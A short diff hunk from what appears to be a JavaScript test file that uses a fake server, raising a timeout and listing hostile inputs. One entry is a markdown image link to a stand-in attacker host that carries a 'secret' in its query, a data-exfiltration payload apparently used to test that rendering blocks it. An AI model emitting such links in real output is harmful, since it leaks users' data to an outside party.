@@ -19,7 +19,7 @@ import {
 import { startFakeServer } from "./fake-server.mjs";
 
 /** Everything here answers within a second or two. */
-const HANG_MS = 10_000;
+const HANG_MS = 30_000;
 const FAILED_REQUEST = /^Failed to load resource/u;
 const HOSTILE = [
   "![pixel](https://evil.example/leak?q=secret)",
